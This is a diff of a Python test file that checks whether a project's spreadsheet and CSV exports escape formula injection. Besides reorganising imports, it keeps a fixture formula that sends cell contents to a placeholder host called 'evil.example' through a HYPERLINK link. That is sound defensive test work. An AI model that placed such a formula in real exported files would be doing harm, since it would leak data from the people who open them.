@@ -12,9 +12,8 @@ from fastapi.testclient import TestClient
 from openpyxl import Workbook, load_workbook
 
 from huiqi.cells import FORMULA_LEAD, csv_cell, keep_text
-from tests.platform.conftest import AsUser
-from tests.platform.test_notice_calendar import approved_application
-from tests.security.conftest import API
+from tests.helpers.api import API, AsUser
+from tests.helpers.applications import approved_application
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
 
@@ -78,12 +77,13 @@ def test_sandbox_workbook_keeps_text(tmp_path: Path) -> None:
 
 def test_screening_error_file_escapes_text(tmp_path: Path) -> None:
     from huiqi.policies import load_policy
-    from huiqi.screening.screen import INPUT_COLUMNS, screen_file
+    from huiqi.screening.flat import flat_layout
+    from huiqi.screening.screen import screen_file
 
     src = tmp_path / "in.csv"
     with src.open("w", encoding="utf-8", newline="") as fh:
         w = csv.writer(fh)
-        w.writerow(INPUT_COLUMNS)
+        w.writerow(flat_layout(load_policy("wuhan-digital-economy-2022")).required)
         w.writerow(["=1+1", "是", "=SUM(A1)", "1", "1", ""])
     import datetime as dt
 
